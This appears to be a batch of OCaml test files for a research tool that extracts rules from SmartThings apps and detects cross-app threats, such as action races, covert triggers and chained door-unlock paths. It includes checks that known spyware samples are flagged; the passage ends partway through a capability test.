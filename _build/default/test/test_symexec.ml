(** Symbolic-execution rule-extraction tests, including the paper's
    Table II reproduction and the §VIII-B special cases. *)

module Rule = Homeguard_rules.Rule
module Formula = Homeguard_solver.Formula
module Term = Homeguard_solver.Term
module Extract = Homeguard_symexec.Extract
open Helpers

let wrap body =
  Printf.sprintf
    {|
definition(name: "T", description: "test app")
preferences {
  section("s") {
    input "sw1", "capability.switch", title: "A switch"
    input "tSensor", "capability.temperatureMeasurement"
    input "threshold1", "number", title: "Limit"
    input "lock1", "capability.lock"
  }
}
def installed() {
  subscribe(sw1, "switch", handler)
}
def updated() {
  unsubscribe()
  subscribe(sw1, "switch", handler)
}
%s
|}
    body

(* Table II: the paper's reference extraction of Rule 1. *)
let table_ii =
  test "Table II: ComfortTV extraction matches the paper" (fun () ->
      let app = extract_corpus "ComfortTV" in
      let r = the_rule app in
      (match r.Rule.trigger with
      | Rule.Event { subject = Rule.Device "tv1"; attribute = "switch"; constraint_ } ->
        check_string "trigger constraint" "tv1.switch == \"on\""
          (Formula.to_string constraint_)
      | _ -> Alcotest.fail "wrong trigger");
      check_bool "data constraint t = tSensor.temperature" true
        (List.mem ("t", Term.Var "tSensor.temperature") r.Rule.condition.Rule.data);
      check_string "predicate"
        "(tSensor.temperature > threshold1 && window1.switch == \"off\")"
        (Formula.to_string r.Rule.condition.Rule.predicate);
      match r.Rule.actions with
      | [ { Rule.target = Rule.Act_device "window1"; command = "on"; params = []; when_ = 0;
            period = 0; _ } ] ->
        ()
      | _ -> Alcotest.fail "wrong action")

let inputs_scanned =
  test "input declarations are scanned" (fun () ->
      let app = extract (wrap "def handler(evt) { sw1.off() }") in
      check_int "inputs" 4 (List.length app.Rule.inputs);
      check_bool "capability recorded" true
        (Rule.capability_of_input app "sw1" = Some "switch");
      check_bool "number input" true
        (List.exists (fun i -> i.Rule.var = "threshold1" && i.Rule.input_type = "number")
           app.Rule.inputs))

let both_branches_explored =
  test "if/else yields two rules" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) {
  if (evt.value == "on") { lock1.lock() } else { lock1.unlock() }
}|})
      in
      check_int "rules" 2 (List.length app.Rule.rules))

let no_sink_no_rule =
  test "paths without sinks yield no rule" (fun () ->
      let app = extract (wrap "def handler(evt) { def x = 1 }") in
      check_int "rules" 0 (List.length app.Rule.rules))

let nested_conditions_conjoin =
  test "nested branches accumulate the path condition" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) {
  def t = tSensor.currentTemperature
  if (t > 10) {
    if (t < 50) {
      sw1.off()
    }
  }
}|})
      in
      let r = the_rule app in
      let p = Formula.to_string r.Rule.condition.Rule.predicate in
      check_bool "both constraints present" true
        (p = "(tSensor.temperature > 10 && tSensor.temperature < 50)"))

let run_in_attaches_delay =
  test "runIn attaches the when delay to downstream sinks" (fun () ->
      let app =
        extract
          (wrap {|def handler(evt) { runIn(300, later) }
def later() { sw1.off() }|})
      in
      let r = the_rule app in
      match r.Rule.actions with
      | [ { Rule.when_ = 300; command = "off"; _ } ] -> ()
      | _ -> Alcotest.fail "expected delayed action")

let nested_run_in_accumulates =
  test "nested runIn delays accumulate" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) { runIn(60, stage1) }
def stage1() { runIn(60, stage2) }
def stage2() { sw1.on() }|})
      in
      let r = the_rule app in
      match r.Rule.actions with
      | [ { Rule.when_ = 120; _ } ] -> ()
      | _ -> Alcotest.fail "expected accumulated delay of 120")

let subscribe_with_value =
  test "subscribe(dev, \"switch.on\") constrains the trigger" (fun () ->
      let app =
        extract
          {|
input "sw1", "capability.switch"
def installed() { subscribe(sw1, "switch.on", h) }
def h(evt) { sw1.off() }
|}
      in
      let r = the_rule app in
      match r.Rule.trigger with
      | Rule.Event { constraint_; _ } ->
        check_string "constraint" "sw1.switch == \"on\"" (Formula.to_string constraint_)
      | _ -> Alcotest.fail "wrong trigger")

let switch_statement_branches =
  test "switch statements branch per case" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) {
  switch (evt.value) {
    case "on":
      lock1.lock()
      break
    case "off":
      lock1.unlock()
      break
  }
}|})
      in
      check_int "rules" 2 (List.length app.Rule.rules))

let ternary_branches =
  test "ternary expressions split the path" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) {
  def target = (evt.value == "on") ? "locked" : "unlocked"
  if (target == "locked") { lock1.lock() } else { lock1.unlock() }
}|})
      in
      (* 2 ternary paths x 2 if branches, infeasible ones still recorded *)
      check_bool "at least 2 rules" true (List.length app.Rule.rules >= 2))

let state_strong_update =
  test "state fields are strongly updated along a path" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) {
  state.armed = "yes"
  if (state.armed == "yes") { sw1.off() }
}|})
      in
      (* condition folds to "yes" == "yes": no residual predicate on state *)
      let r = the_rule app in
      check_bool "no state var in predicate" true
        (not (List.mem "state.armed" (Formula.free_vars r.Rule.condition.Rule.predicate))))

let state_symbolic_read =
  test "unwritten state fields are symbolic sources" (fun () ->
      let app =
        extract (wrap {|def handler(evt) { if (state.mode == "guard") { sw1.off() } }|})
      in
      let r = the_rule app in
      check_bool "state var in predicate" true
        (List.mem "state.armed" (Formula.free_vars r.Rule.condition.Rule.predicate)
        || List.mem "state.mode" (Formula.free_vars r.Rule.condition.Rule.predicate)))

let location_mode_source =
  test "location.mode reads become the shared mode variable" (fun () ->
      let app =
        extract (wrap {|def handler(evt) { if (location.mode == "Night") { sw1.off() } }|})
      in
      let r = the_rule app in
      check_bool "location.mode in predicate" true
        (List.mem "location.mode" (Formula.free_vars r.Rule.condition.Rule.predicate)))

let set_location_mode_action =
  test "setLocationMode is a location-mode action" (fun () ->
      let app = extract (wrap {|def handler(evt) { setLocationMode("Away") }|}) in
      let r = the_rule app in
      match r.Rule.actions with
      | [ { Rule.target = Rule.Act_location_mode; command = "setLocationMode";
            params = [ Term.Str "Away" ]; _ } ] ->
        ()
      | _ -> Alcotest.fail "expected setLocationMode action")

let messaging_action =
  test "sendSmsMessage is a messaging action" (fun () ->
      let app = extract (wrap {|def handler(evt) { sendSmsMessage("555", "hello") }|}) in
      let r = the_rule app in
      match r.Rule.actions with
      | [ { Rule.target = Rule.Act_messaging; command = "sendSmsMessage"; _ } ] -> ()
      | _ -> Alcotest.fail "expected messaging action")

let http_sink_and_closure =
  test "httpGet is a sink and its closure is executed" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) {
  httpGet("http://x") { resp ->
    if (resp.data == "go") { sw1.on() }
  }
}|})
      in
      check_bool "two paths" true (List.length app.Rule.rules = 2);
      check_bool "http action on every rule" true
        (List.for_all
           (fun (r : Rule.t) ->
             List.exists (fun a -> a.Rule.target = Rule.Act_http) r.Rule.actions)
           app.Rule.rules))

let scheduled_trigger =
  test "schedule() produces a Scheduled rule with the right time" (fun () ->
      let app =
        extract
          {|
input "sw1", "capability.switch"
def installed() { schedule("0 30 18 * * ?", nightly) }
def nightly() { sw1.on() }
|}
      in
      let r = the_rule app in
      match r.Rule.trigger with
      | Rule.Scheduled { at_minutes = Some m; _ } -> check_int "18:30" (18 * 60 + 30) m
      | _ -> Alcotest.fail "expected scheduled trigger")

let run_every_trigger =
  test "runEvery15Minutes produces a periodic rule" (fun () ->
      let app =
        extract
          {|
input "sw1", "capability.switch"
def installed() { runEvery15Minutes(tick) }
def tick() { sw1.off() }
|}
      in
      let r = the_rule app in
      match r.Rule.trigger with
      | Rule.Scheduled { period_seconds = Some 900; _ } -> ()
      | _ -> Alcotest.fail "expected periodic trigger")

let device_collection_commands =
  test "commands on multiple-bound inputs are sinks" (fun () ->
      let app =
        extract
          {|
input "lights", "capability.switch", multiple: true
def installed() { subscribe(lights, "switch", h) }
def h(evt) { lights.off() }
|}
      in
      let r = the_rule app in
      match r.Rule.actions with
      | [ { Rule.target = Rule.Act_device "lights"; command = "off"; _ } ] -> ()
      | _ -> Alcotest.fail "expected collection command")

let each_closure =
  test "each over a device collection executes the closure" (fun () ->
      let app =
        extract
          {|
input "lights", "capability.switch", multiple: true
def installed() { subscribe(lights, "switch.on", h) }
def h(evt) { lights.each { it.off() } }
|}
      in
      let r = the_rule app in
      check_int "one action" 1 (List.length r.Rule.actions))

let gstring_folds_constants =
  test "constant GStrings fold during execution" (fun () ->
      let app =
        extract
          (wrap {|def handler(evt) {
  def msg = "all"
  sendPush("status: ${msg}")
}|})
      in
      let r = the_rule app in
      match r.Rule.actions with
      | [ { Rule.params = [ Term.Str "status: all" ]; _ } ] -> ()
      | _ -> Alcotest.fail "expected folded GString parameter")

let elvis_default =
  test "elvis operator takes the default branch symbolically" (fun () ->
      let app =
        extract (wrap {|def handler(evt) {
  def lim = threshold1 ?: 30
  if (tSensor.currentTemperature > lim) { sw1.on() }
}|})
      in
      check_bool "at least one rule" true (List.length app.Rule.rules >= 1))

let command_params_recorded =
  test "command parameters become action params and data constraints" (fun () ->
      let app =
        extract
          {|
input "dimmer", "capability.switchLevel"
input "lvl", "number"
def installed() { subscribe(dimmer, "level", h) }
def h(evt) { dimmer.setLevel(lvl + 10) }
|}
      in
      let r = the_rule app in
      match r.Rule.actions with
      | [ { Rule.command = "setLevel"; params = [ Term.Add (Term.Var "lvl", Term.Int 10) ];
            action_data = [ ("param0", _) ]; _ } ] ->
        ()
      | _ -> Alcotest.fail "expected parameterized action")

let rules_dedup =
  test "identical paths deduplicate" (fun () ->
      let app =
        extract
          (wrap
             {|def handler(evt) {
  if (evt.value == "on") { sw1.off() }
  if (evt.value == "on") { sw1.off() }
}|})
      in
      (* 4 paths but only distinct (trigger, condition, action) kept; the
         satisfiable distinct ones collapse *)
      check_bool "deduplicated" true (List.length app.Rule.rules <= 3))

let web_service_flag =
  test "mappings marks a web-services app" (fun () ->
      let app =
        extract
          {|
mappings {
  path("/x") {
    action: [GET: "get"]
  }
}
def get() { return 1 }
|}
      in
      check_bool "flagged" true app.Rule.uses_web_services)

let unknown_api_diagnostic =
  test "unknown APIs are reported in diagnostics" (fun () ->
      let r = Extract.extract_source (wrap {|def handler(evt) {
  def d = dayOfWeek()
  if (d == "Monday") { sw1.on() }
}|}) in
      check_bool "dayOfWeek noted" true
        (List.mem "dayOfWeek" r.Extract.diags.Extract.unknown_calls))

let parse_error_wrapped =
  test "parse errors raise Extraction_error" (fun () ->
      match Extract.extract_source "def broken( {" with
      | exception Extract.Extraction_error _ -> ()
      | _ -> Alcotest.fail "expected Extraction_error")

let path_budget_reported =
  test "path explosion is truncated and reported" (fun () ->
      (* 2^20 paths from 20 sequential branches *)
      let branches =
        String.concat "\n"
          (List.init 20 (fun i ->
               Printf.sprintf "if (tSensor.currentTemperature > %d) { def x%d = 1 }" i i))
      in
      let r =
        Extract.extract_source
          (wrap (Printf.sprintf "def handler(evt) {\n%s\nsw1.off()\n}" branches))
      in
      check_bool "truncated" true r.Extract.diags.Extract.truncated)

let special_case_petfeeder =
  test "special case: device.petfeedershield (Feed My Pet)" (fun () ->
      let app = extract_corpus "FeedMyPet" in
      check_int "one rule" 1 (List.length app.Rule.rules);
      let r = the_rule app in
      check_bool "feed command" true
        (List.exists (fun a -> a.Rule.command = "feed") r.Rule.actions))

let special_case_jawbone =
  test "special case: device.jawboneUser (Sleepy Time)" (fun () ->
      let app = extract_corpus "SleepyTime" in
      check_int "two rules" 2 (List.length app.Rule.rules))

let special_case_run_daily =
  test "special case: undocumented runDaily (Camera Power Scheduler)" (fun () ->
      let app = extract_corpus "CameraPowerScheduler" in
      check_int "two rules" 2 (List.length app.Rule.rules);
      check_bool "scheduled at 9:00" true
        (List.exists
           (fun (r : Rule.t) ->
             match r.Rule.trigger with
             | Rule.Scheduled { at_minutes = Some m; _ } -> m = 9 * 60
             | _ -> false)
           app.Rule.rules))

let tests =
  [
    table_ii;
    inputs_scanned;
    both_branches_explored;
    no_sink_no_rule;
    nested_conditions_conjoin;
    run_in_attaches_delay;
    nested_run_in_accumulates;
    subscribe_with_value;
    switch_statement_branches;
    ternary_branches;
    state_strong_update;
    state_symbolic_read;
    location_mode_source;
    set_location_mode_action;
    messaging_action;
    http_sink_and_closure;
    scheduled_trigger;
    run_every_trigger;
    device_collection_commands;
    each_closure;
    gstring_folds_constants;
    elvis_default;
    command_params_recorded;
    rules_dedup;
    web_service_flag;
    unknown_api_diagnostic;
    parse_error_wrapped;
    path_budget_reported;
  ]
