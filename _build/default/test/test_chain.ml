(** Chained-threat (Allowed list) unit tests. *)

module Chain = Homeguard_detector.Chain
module Threat = Homeguard_detector.Threat
module Rule = Homeguard_rules.Rule
module Formula = Homeguard_solver.Formula
open Helpers

let mk_rule app id =
  {
    Rule.app_name = app;
    rule_id = id;
    trigger = Rule.Event { subject = Rule.Location; attribute = "mode"; constraint_ = Formula.True };
    condition = { Rule.data = []; predicate = Formula.True };
    actions = [];
  }

let mk_app name = { Rule.name; description = ""; inputs = []; rules = []; uses_web_services = false }

let threat cat a1 r1 a2 r2 =
  Threat.make cat (mk_app a1, mk_rule a1 r1) (mk_app a2, mk_rule a2 r2) "test edge"

let two_hop_chain =
  test "a new CT edge extends through an allowed CT edge" (fun () ->
      let allowed = Chain.create () in
      Chain.allow allowed [ threat Threat.CT "B" "B#1" "C" "C#1" ];
      let chains = Chain.find_chains allowed [ threat Threat.CT "A" "A#1" "B" "B#1" ] in
      check_bool "A->B->C found" true
        (List.exists (fun c -> c.Chain.rules = [ "A#1"; "B#1"; "C#1" ]) chains))

let three_hop_chain =
  test "chains extend multiple allowed hops" (fun () ->
      let allowed = Chain.create () in
      Chain.allow allowed
        [ threat Threat.CT "B" "B#1" "C" "C#1"; threat Threat.EC "C" "C#1" "D" "D#1" ];
      let chains = Chain.find_chains allowed [ threat Threat.CT "A" "A#1" "B" "B#1" ] in
      check_bool "4-rule chain found" true
        (List.exists (fun c -> c.Chain.rules = [ "A#1"; "B#1"; "C#1"; "D#1" ]) chains))

let non_propagating_edges_ignored =
  test "AR/DC edges do not propagate chains" (fun () ->
      let allowed = Chain.create () in
      Chain.allow allowed [ threat Threat.AR "B" "B#1" "C" "C#1" ];
      let chains = Chain.find_chains allowed [ threat Threat.CT "A" "A#1" "B" "B#1" ] in
      check_int "no chains" 0 (List.length chains))

let cycles_terminate =
  test "cyclic allowed edges do not loop forever" (fun () ->
      let allowed = Chain.create () in
      Chain.allow allowed
        [ threat Threat.CT "B" "B#1" "C" "C#1"; threat Threat.CT "C" "C#1" "B" "B#1" ];
      let chains = Chain.find_chains allowed [ threat Threat.CT "A" "A#1" "B" "B#1" ] in
      check_bool "terminates with chains" true (chains <> []);
      List.iter
        (fun c ->
          let rs = c.Chain.rules in
          check_int "no repeated rule" (List.length rs) (List.length (List.sort_uniq compare rs)))
        chains)

let no_allowed_no_chain =
  test "a single new edge alone forms no chain" (fun () ->
      let allowed = Chain.create () in
      let chains = Chain.find_chains allowed [ threat Threat.CT "A" "A#1" "B" "B#1" ] in
      check_int "none" 0 (List.length chains))

let chain_rendering =
  test "chains render readably" (fun () ->
      let c = { Chain.rules = [ "A#1"; "B#1"; "C#1" ]; categories = [ Threat.CT; Threat.CT ] } in
      check_string "format" "A#1 -> B#1 -> C#1 [CT,CT]" (Chain.chain_to_string c))

let tests =
  [
    two_hop_chain;
    three_hop_chain;
    non_propagating_edges_ignored;
    cycles_terminate;
    no_allowed_no_chain;
    chain_rendering;
  ]
