(** End-to-end pipeline tests through the {!Homeguard} facade:
    instrumented configuration -> messaging -> recorder -> detection ->
    one-time decision, plus chained threats (§VI-D). *)

module Homeguard = Homeguard_core.Homeguard
module Rule = Homeguard_rules.Rule
module Threat = Homeguard_detector.Threat
module Install_flow = Homeguard_frontend.Install_flow
module Chain = Homeguard_detector.Chain
module Device = Homeguard_st.Device
open Helpers

let tv_id = Device.id_of_seed "living tv"
let window_id = Device.id_of_seed "window opener"
let tsensor_id = Device.id_of_seed "temp sensor"
let weather_id = Device.id_of_seed "weather"

let install home name ~devices ~values =
  let app = extract_corpus name in
  Homeguard.begin_install home ~app ~device_bindings:devices ~value_bindings:values ()

let full_pipeline_detects_fig3 =
  test "online pipeline: Fig 3 race detected with exact device ids" (fun () ->
      let home = Homeguard.create_home () in
      let report1, latency1 =
        install home "ComfortTV"
          ~devices:[ ("tv1", tv_id); ("tSensor", tsensor_id); ("window1", window_id) ]
          ~values:[ ("threshold1", "30") ]
      in
      check_bool "messaging latency observed" true (latency1 <> None);
      check_int "first install clean" 0 (List.length report1.Install_flow.threats);
      Homeguard.decide home Install_flow.Keep;
      let report2, _ =
        install home "ColdDefender"
          ~devices:[ ("tv2", tv_id); ("wSensor", weather_id); ("window2", window_id) ]
          ~values:[]
      in
      check_bool "AR detected" true
        (List.exists
           (fun (t : Threat.t) -> t.Threat.category = Threat.AR)
           report2.Install_flow.threats))

let online_distinguishes_devices =
  test "online pipeline: different window devices -> no race" (fun () ->
      let home = Homeguard.create_home () in
      ignore
        (install home "ComfortTV"
           ~devices:[ ("tv1", tv_id); ("tSensor", tsensor_id); ("window1", window_id) ]
           ~values:[ ("threshold1", "30") ]);
      Homeguard.decide home Install_flow.Keep;
      let other_window = Device.id_of_seed "bedroom window" in
      let report, _ =
        install home "ColdDefender"
          ~devices:[ ("tv2", tv_id); ("wSensor", weather_id); ("window2", other_window) ]
          ~values:[]
      in
      check_bool "no AR across distinct windows" false
        (List.exists
           (fun (t : Threat.t) -> t.Threat.category = Threat.AR)
           report.Install_flow.threats))

let config_values_sharpen_detection =
  test "online pipeline: configured thresholds participate in solving" (fun () ->
      (* VirtualThermostat heats below setpoint; ItsTooHot cools above
         hotLimit. With setpoint 90 and hotLimit 70 the two situations
         overlap (70 < t < 90): a goal conflict. With setpoint 40 and
         hotLimit 90 they cannot hold together. *)
      let sensor_id = Device.id_of_seed "shared sensor" in
      let run ~setpoint ~hot_limit =
        let home = Homeguard.create_home () in
        ignore
          (install home "VirtualThermostat"
             ~devices:
               [ ("sensor", sensor_id); ("heaterOutlet", Device.id_of_seed "heater outlet") ]
             ~values:[ ("setpoint", string_of_int setpoint) ]);
        Homeguard.decide home Install_flow.Keep;
        let report, _ =
          install home "ItsTooHot"
            ~devices:[ ("tempSensor", sensor_id); ("acSwitch", Device.id_of_seed "ac switch") ]
            ~values:[ ("hotLimit", string_of_int hot_limit) ]
        in
        List.exists
          (fun (t : Threat.t) -> t.Threat.category = Threat.GC)
          report.Install_flow.threats
      in
      check_bool "overlapping configs conflict" true (run ~setpoint:90 ~hot_limit:70);
      check_bool "disjoint configs do not" false (run ~setpoint:40 ~hot_limit:90))

let lights = Device.id_of_seed "hall lights"
let mode_switch = Device.id_of_seed "mode switch"
let front_lock = Device.id_of_seed "front lock"
let motion_id = Device.id_of_seed "bathroom motion"

let chained_threat_via_allowed =
  test "§VIII-B(2): CurlingIron chains through SwitchChangesMode to MakeItSo" (fun () ->
      let home = Homeguard.create_home () in
      ignore
        (install home "MakeItSo"
           ~devices:[ ("homeSwitches", lights); ("frontDoor", front_lock) ]
           ~values:[]);
      Homeguard.decide home Install_flow.Keep;
      ignore
        (install home "SwitchChangesMode" ~devices:[ ("modeSwitch", mode_switch) ]
           ~values:[ ("onMode", "Home"); ("offMode", "Away") ]);
      Homeguard.decide home Install_flow.Keep;
      let report, _ =
        install home "CurlingIron"
          ~devices:[ ("bathroomMotion", motion_id); ("outlets", mode_switch) ]
          ~values:[]
      in
      (* direct CT: outlets.on triggers SwitchChangesMode *)
      check_bool "direct CT" true
        (List.exists
           (fun (t : Threat.t) -> t.Threat.category = Threat.CT)
           report.Install_flow.threats);
      (* chained: motion -> mode change -> MakeItSo unlocks the door *)
      check_bool "3-rule chain found" true
        (List.exists
           (fun (c : Chain.chain) -> List.length c.Chain.rules >= 3)
           report.Install_flow.chains))

let message_loss_skips_recording =
  test "failure injection: lost configuration message is not recorded" (fun () ->
      let home = Homeguard.create_home () in
      (* force certain loss *)
      let lossy =
        { home with
          Homeguard.messaging =
            Homeguard_config.Messaging.create ~seed:1 ~loss_per_thousand:1000 () }
      in
      let _, latency =
        install lossy "ComfortTV"
          ~devices:[ ("tv1", tv_id); ("tSensor", tsensor_id); ("window1", window_id) ]
          ~values:[ ("threshold1", "30") ]
      in
      check_bool "message lost" true (latency = None);
      check_bool "nothing recorded" true
        (Homeguard_config.Recorder.device_id lossy.Homeguard.recorder "ComfortTV" "tv1" = None))

let static_and_dynamic_agree =
  test "static detection and dynamic simulation agree on the Fig 3 race" (fun () ->
      (* statically: AR detected (see above). dynamically: both commands
         hit the window in the simulator. The reproduction requires both
         views to agree, which is the paper's verification methodology. *)
      let comfort = extract_corpus "ComfortTV" and cold = extract_corpus "ColdDefender" in
      let ctx = Homeguard_detector.Detector.create Homeguard_detector.Detector.offline_config in
      let statically =
        Homeguard_detector.Detector.detect_pair ctx
          (comfort, List.hd comfort.Rule.rules)
          (cold, List.hd cold.Rule.rules)
        |> List.exists (fun (t : Threat.t) -> t.Threat.category = Threat.AR)
      in
      let module Engine = Homeguard_sim.Engine in
      let module Trace = Homeguard_sim.Trace in
      let tv = Device.make ~label:"TV" ~device_type:"tv" [ "switch" ] in
      let window = Device.make ~label:"Window" ~device_type:"window" [ "switch" ] in
      let ts = Device.make ~label:"T" ~device_type:"temp" [ "temperatureMeasurement" ] in
      let ws = Device.make ~label:"W" ~device_type:"weather" [ "weatherSensor" ] in
      let t = Engine.create ~seed:3 () in
      Engine.install t comfort
        [ ("tv1", Engine.B_device tv); ("tSensor", Engine.B_device ts);
          ("threshold1", Engine.B_int 30); ("window1", Engine.B_device window) ];
      Engine.install t cold
        [ ("tv2", Engine.B_device tv); ("wSensor", Engine.B_device ws);
          ("window2", Engine.B_device window) ];
      Engine.stimulate t ts.Device.id "temperature" "31";
      Engine.stimulate t ws.Device.id "weather" "rainy";
      Engine.stimulate t tv.Device.id "switch" "on";
      Engine.run t ~until_ms:10_000;
      let dynamically =
        Trace.opposite_commands_within (Engine.trace t) "Window" ~window_ms:5_000
          ~opposites:[ ("on", "off"); ("off", "on") ]
      in
      check_bool "both agree" true (statically && dynamically))

let tests =
  [
    full_pipeline_detects_fig3;
    online_distinguishes_devices;
    config_values_sharpen_detection;
    chained_threat_via_allowed;
    message_loss_skips_recording;
    static_and_dynamic_agree;
  ]

(* appended: §VIII-D3 backward compatibility *)
let retrofit_existing_home =
  test "§VIII-D3: retrofitting a pre-HomeGuard home surfaces latent threats" (fun () ->
      let home = Homeguard.create_home () in
      let reports =
        Homeguard.retrofit home
          [
            ( extract_corpus "ComfortTV",
              [ ("tv1", tv_id); ("tSensor", tsensor_id); ("window1", window_id) ],
              [ ("threshold1", "30") ] );
            ( extract_corpus "ColdDefender",
              [ ("tv2", tv_id); ("wSensor", weather_id); ("window2", window_id) ],
              [] );
            ( extract_corpus "CatchLiveShow",
              [ ("voicePlayer", Device.id_of_seed "voice player"); ("tv3", tv_id) ],
              [] );
          ]
      in
      check_int "three reports" 3 (List.length reports);
      check_int "all kept installed" 3 (List.length (Homeguard.installed home));
      (* the latent Fig 3 race surfaces while processing ColdDefender *)
      let second = List.nth reports 1 in
      check_bool "latent AR surfaced" true
        (List.exists
           (fun (t : Threat.t) -> t.Threat.category = Threat.AR)
           second.Install_flow.threats);
      (* and CatchLiveShow's covert trigger appears in the third report *)
      let third = List.nth reports 2 in
      check_bool "latent CT surfaced" true
        (List.exists
           (fun (t : Threat.t) -> t.Threat.category = Threat.CT)
           third.Install_flow.threats))

let tests = tests @ [ retrofit_existing_home ]
