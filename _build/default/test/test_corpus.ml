(** Corpus-wide tests: extraction correctness against ground truth
    (the §VIII-B effectiveness experiment) and corpus construction. *)

module Rule = Homeguard_rules.Rule
module Extract = Homeguard_symexec.Extract
open Homeguard_corpus
open Helpers

let corpus_shape =
  test "corpus construction mirrors the paper's partition" (fun () ->
      check_bool "120+ rule-defining apps" true (List.length Corpus.rule_defining >= 120);
      check_bool "90+ audit apps" true
        (List.length Corpus.audit_apps >= 90 && List.length Corpus.audit_apps <= 130);
      check_int "18 malicious apps (Table III)" 18 (List.length Corpus.malicious);
      check_bool "web-service apps present" true (List.length Corpus.web_services >= 4))

let unique_names =
  test "app names are unique" (fun () ->
      let names = List.map (fun (e : App_entry.t) -> e.App_entry.name) Corpus.all in
      check_int "no duplicates" (List.length names) (List.length (List.sort_uniq compare names)))

let every_app_parses =
  test "every corpus app parses" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          try ignore (Homeguard_groovy.Parser.parse e.App_entry.source)
          with ex -> Alcotest.failf "%s: %s" e.App_entry.name (Printexc.to_string ex))
        Corpus.all)

let extraction_matches_ground_truth =
  test "rule extraction matches manual ground truth on all apps" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          let app = extract ~name:e.App_entry.name e.App_entry.source in
          if e.App_entry.ground_truth_rules = -1 then
            check_bool (e.App_entry.name ^ " flagged web-service") true
              app.Rule.uses_web_services
          else if List.length app.Rule.rules <> e.App_entry.ground_truth_rules then
            Alcotest.failf "%s: extracted %d rules, ground truth %d" e.App_entry.name
              (List.length app.Rule.rules) e.App_entry.ground_truth_rules)
        Corpus.all)

let no_truncation =
  test "no corpus app exhausts the path budget" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          let r = Extract.extract_source ~name:e.App_entry.name e.App_entry.source in
          if r.Extract.diags.Extract.truncated then
            Alcotest.failf "%s truncated" e.App_entry.name)
        Corpus.all)

let notification_apps_control_nothing =
  test "notification apps define no device-controlling rules" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          if e.App_entry.category = App_entry.Notification then begin
            let app = extract ~name:e.App_entry.name e.App_entry.source in
            List.iter
              (fun r ->
                if Rule.controls_devices r then
                  Alcotest.failf "%s controls devices" e.App_entry.name)
              app.Rule.rules
          end)
        Corpus.benign)

let audit_apps_control_devices =
  test "audit apps do control devices or modes" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          let app = extract ~name:e.App_entry.name e.App_entry.source in
          if not (List.exists Rule.controls_devices app.Rule.rules) then
            Alcotest.failf "%s controls nothing" e.App_entry.name)
        Corpus.audit_apps)

let malicious_analyzability =
  test "Table III: analyzability per attack class" (fun () ->
      List.iter
        (fun (e : App_entry.t) ->
          let app = extract ~name:e.App_entry.name e.App_entry.source in
          if Apps_malicious.statically_analyzable e then begin
            if e.App_entry.ground_truth_rules > 0 && app.Rule.rules = [] then
              Alcotest.failf "%s: no rules extracted from analyzable malware" e.App_entry.name
          end
          else
            (* endpoint/app-update attacks: either no rules, or the rules
               don't reveal the attack (statically benign) *)
            check_bool (e.App_entry.name ^ " is a known-hard case") true
              (app.Rule.uses_web_services || e.App_entry.ground_truth_rules >= 0))
        Corpus.malicious)

let spyware_exfiltration_visible =
  test "spyware rules expose their HTTP exfiltration sinks" (fun () ->
      List.iter
        (fun name ->
          let app = extract_corpus name in
          let has_http =
            List.exists
              (fun (r : Rule.t) ->
                List.exists (fun a -> a.Rule.target = Rule.Act_http) r.Rule.actions)
              app.Rule.rules
          in
          check_bool (name ^ " leaks over HTTP") true has_http)
        [ "LockManagerSpyware"; "DoorLockPinCodeSnooping"; "AutoCamera2"; "BabyMonitorLeaker" ])

let abuse_visible =
  test "permission abuse surfaces as an unexpected lock command" (fun () ->
      let app = extract_corpus "shiqiBatteryMonitor" in
      check_bool "unlock action extracted" true
        (List.exists
           (fun (r : Rule.t) ->
             List.exists (fun a -> a.Rule.command = "unlock") r.Rule.actions)
           app.Rule.rules))

let tests =
  [
    corpus_shape;
    unique_names;
    every_app_parses;
    extraction_matches_ground_truth;
    no_truncation;
    notification_apps_control_nothing;
    audit_apps_control_devices;
    malicious_analyzability;
    spyware_exfiltration_visible;
    abuse_visible;
  ]
