(** Capability-registry sanity tests. *)

open Homeguard_st

let find_qualified =
  Helpers.test "find accepts qualified and short names" (fun () ->
      Helpers.check_bool "short" true (Capability.find "switch" <> None);
      Helpers.check_bool "qualified" true (Capability.find "capability.switch" <> None);
      Helpers.check_bool "missing" true (Capability.find "capability.nonsense" = None))

let find_exn_raises =
  Helpers.test "find_exn raises on unknown" (fun () ->
      match Capability.find_exn "nope" with
      | exception Capability.Unknown_capability "nope" -> ()
      | _ -> Alcotest.fail "expected Unknown_capability")

let opposites_symmetric =
  Helpers.test "declared opposites point back" (fun () ->
      List.iter
        (fun cap ->
          List.iter
            (fun (c : Capability.command) ->
              match c.Capability.opposite with
              | Some other -> (
                match Capability.command_of cap other with
                | Some _ -> ()
                | None ->
                  Alcotest.failf "opposite %s of %s.%s not a command" other
                    cap.Capability.cap_name c.Capability.cmd_name)
              | None -> ())
            cap.Capability.commands)
        Capability.registry)

let writes_target_declared_attrs =
  Helpers.test "command writes target declared attributes" (fun () ->
      List.iter
        (fun cap ->
          List.iter
            (fun (c : Capability.command) ->
              match c.Capability.writes with
              | Some w -> (
                match Capability.attribute_of cap w.Capability.target_attr with
                | Some _ -> ()
                | None ->
                  Alcotest.failf "%s.%s writes undeclared attribute %s" cap.Capability.cap_name
                    c.Capability.cmd_name w.Capability.target_attr)
              | None -> ())
            cap.Capability.commands)
        Capability.registry)

let fixed_values_in_domain =
  Helpers.test "fixed written values lie in the attribute domain" (fun () ->
      List.iter
        (fun cap ->
          List.iter
            (fun (c : Capability.command) ->
              match c.Capability.writes with
              | Some { Capability.target_attr; fixed_value = Some v } -> (
                match Capability.attribute_of cap target_attr with
                | Some { Capability.domain = Capability.Enum values; _ } ->
                  if not (List.mem v values) then
                    Alcotest.failf "%s.%s writes %s outside domain" cap.Capability.cap_name
                      c.Capability.cmd_name v
                | _ -> ())
              | _ -> ())
            cap.Capability.commands)
        Capability.registry)

let switch_contradiction =
  Helpers.test "on/off contradict" (fun () ->
      let sw = Capability.find_exn "switch" in
      Helpers.check_bool "on vs off" true (Capability.contradicts sw "on" "off");
